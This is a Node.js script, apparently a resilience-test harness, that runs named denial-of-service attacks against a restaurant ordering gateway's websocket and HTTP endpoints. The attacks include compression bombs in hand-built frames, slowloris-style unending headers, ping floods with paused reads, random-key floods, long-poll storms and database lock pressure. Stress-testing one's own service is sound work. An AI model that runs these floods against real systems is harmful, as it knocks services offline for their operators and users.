// attack.mjs - one attack, in a process of its own so that it does not disturb who measures: `node attack.mjs <name>`
// with what it needs as JSON in ABUSE. It goes on until it is ended, each within a bound of its own.
// SPDX-License-Identifier: Apache-2.0
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';
import { fileURLToPath } from 'node:url';
import pg from 'pg';
import WebSocket from 'ws';

const { gateway, api, publicUrl, database, tenant } = JSON.parse(process.env.ABUSE ?? '{}');
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const forever = async (ms, act) => {
    for (;;) {
        await Promise.resolve(act()).catch(() => {});
        await pause(ms);
    }
};
const wsUrl = (path) => gateway.replace('http', 'ws') + path;
const open = (path, options = {}) => new Promise((resolve) => {
    const ws = new WebSocket(wsUrl(path), options);
    ws.on('error', () => resolve(undefined));
    ws.on('open', () => resolve(ws));
});
const withKey = { headers: { 'X-API-Key': tenant?.key } };
const raw = (url, text) => new Promise((resolve) => {
    const { hostname, port } = new URL(url);
    const socket = net.connect(Number(port), hostname, () => resolve(socket));
    socket.on('error', () => resolve(socket));
    if (text) socket.write(text);
});
// A frame as it goes over the wire, with the RSV1 bit for a compressed one.
function frame(payload, { opcode = 1, isPacked = false } = {}) {
    const mask = randomBytes(4);
    const head = payload.length < 126 ? Buffer.from([0x80 | (isPacked ? 0x40 : 0) | opcode, 0x80 | payload.length])
        : Buffer.from([0x80 | (isPacked ? 0x40 : 0) | opcode, 0x80 | 126, payload.length >> 8, payload.length & 255]);
    const body = Buffer.from(payload);
    for (let i = 0; i < body.length; i++) body[i] ^= mask[i & 3];
    return Buffer.concat([head, mask, body]);
}
const packed = (text) => {
    const bytes = zlib.deflateRawSync(Buffer.from(text), { finishFlush: zlib.constants.Z_SYNC_FLUSH });
    return bytes.subarray(0, bytes.length - 4);
};
const request = (base, method, path, key, body) => new Promise((resolve) => {
    const req = http.request(base + path, { method, headers: { 'X-API-Key': key, 'Content-Type': 'application/json' } }, (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode));
    });
    req.on('error', () => resolve(0));
    req.end(body);
});

const attacks = {
    // Nobody who has a key: packets that unpack to many more, in front of the credential.
    async 'strangers send what unpacks to much more'() {
        const noise = packed('6'.repeat(65000));
        await forever(50, async () => {
            const ws = await open('/socket.io/?EIO=4&transport=websocket');
            if (!ws) return;
            for (let i = 0; i < 20; i++) ws._socket.write(frame(noise, { isPacked: ws.extensions.includes('deflate') }));
            setTimeout(() => ws.terminate(), 500);
        });
    },
    async 'strangers keep sockets open and say nothing'() {
        await forever(10, async () => {
            await raw(gateway, 'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: a\r\n\r\n');
            await open('/ws');
        });
    },
    async 'heads that never end'() {
        const sockets = [];
        await forever(20, async () => {
            if (sockets.length < 400) sockets.push(await raw(sockets.length % 2 ? gateway : api, 'GET /ws/pos/kitchen HTTP/1.1\r\n'));
            for (const socket of sockets) if (socket.writable) socket.write('X: 1\r\n');
        });
    },
    async 'keys that nobody knows'() {
        await forever(4, () => {
            const key = `pos_${randomBytes(32).toString('hex')}`;
            void request(api, 'GET', `/api/${tenant.slug}/orders/pending`, key);
            void open(`/ws/pos/${tenant.slug}`, { headers: { 'X-API-Key': key } });
        });
    },
    // Somebody with a key of a restaurant.
    async 'a till sends pings and reads nothing'() {
        const ping = frame(Buffer.alloc(100), { opcode: 9 });
        const many = Buffer.concat(Array.from({ length: 600 }, () => ping));
        const ws = await open(`/ws/pos/${tenant.slug}`, withKey);
        ws._socket.pause();
        await forever(5, () => ws._socket.writableLength < 1_000_000 && ws._socket.write(many));
    },
    async 'tills unpack much'() {
        const noise = packed(JSON.stringify({ type: 'noise', text: 'x'.repeat(60000) }));
        const tills = await Promise.all(Array.from({ length: 4 }, () => open(`/ws/pos/${tenant.slug}`, withKey)));
        await forever(5, () => {
            for (const till of tills) if (till?._socket?.writable && till._socket.writableLength < 100_000) till._socket.write(Buffer.concat(Array.from({ length: 50 }, () => frame(noise, { isPacked: true }))));
        });
    },
    async 'tablets begin large messages and do not end them'() {
        await forever(40, async () => {
            const ws = await open('/ws', withKey);
            ws?._socket.write(Buffer.concat([Buffer.from([0x81, 0x80 | 127, 0, 0, 0, 0, 0, 0x3f, 0xff, 0xff, 0, 0, 0, 0]), Buffer.alloc(200_000, 32)]));
        });
    },
    async 'a tablet passes on as much as it can'() {
        const tablets = await Promise.all(Array.from({ length: 8 }, () => open('/ws', withKey)));
        const text = JSON.stringify({ type: 'SESSION_UPDATE', data: { text: 'x'.repeat(2000) }, clientId: 'c' });
        await forever(5, () => tablets.forEach((tablet) => tablet?.bufferedAmount < 100_000 && tablet.send(text)));
    },
    async 'tablets come and go'() {
        await forever(15, async () => {
            const tablet = await open('/ws', withKey);
            tablet?.send(JSON.stringify({ type: 'CLIENT_CONNECTED', data: { clientId: `c${Math.random()}` }, clientId: 'c' }));
            setTimeout(() => tablet?.terminate(), 30);
        });
    },
    async 'tills that read nothing while much is said'() {
        for (let i = 0; i < 20; i++) (await open(`/ws/pos/${tenant.slug}`, withKey))?._socket.pause();
        const body = JSON.stringify({ customerName: 'x', totalAmount: 1, items: [{ name: 'y'.repeat(1000), price: 1, quantity: 1 }] });
        await forever(20, () => void request(api, 'POST', `/api/${tenant.slug}/orders`, tenant.shopKey, body));
    },
    async 'tills ask for everything again and again'() {
        await forever(20, async () => {
            const ws = await open(`/ws/pos/${tenant.slug}?since=0`, withKey);
            setTimeout(() => ws?.terminate(), 1000);
        });
    },
    async 'five hundred long polls of one restaurant'() {
        const polls = (n) => Promise.all(Array.from({ length: n }, () => request(api, 'GET', `/api/${tenant.slug}/events?after=0&wait=1&limit=1`, tenant.key)));
        await forever(100, () => polls(500));
    },
    async 'a back office imports in one transaction'() {
        const client = new pg.Client({ connectionString: database });
        await client.connect();
        // As this process itself: what others must wait for counts, locks and the log, and not that one more program computes.
        os.setPriority((await client.query('select pg_backend_pid() as pid')).rows[0].pid, os.constants.priority.PRIORITY_LOW);
        await forever(100, () => client.query('insert into pos.orders (tenant_id, customer_name, total_amount, items) select $1, $2, 1, $3 from generate_series(1, 2000)',
            [tenant.id, 'x', '[]']));
    },
    async 'a web shop sends as much as it can'() {
        await forever(2, () => void request(publicUrl, 'POST', `/api/${tenant.slug}/orders`, tenant.shopKey, '{"customerName":"x","totalAmount":1,"items":[]}'));
    },
};

export const names = Object.keys(attacks);

// As busy as an attacker, but with itself.
async function spin() {
    await forever(1, () => {
        const until = Date.now() + 20;
        while (Date.now() < until);
    });
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await (attacks[process.argv[2]] ?? spin)();
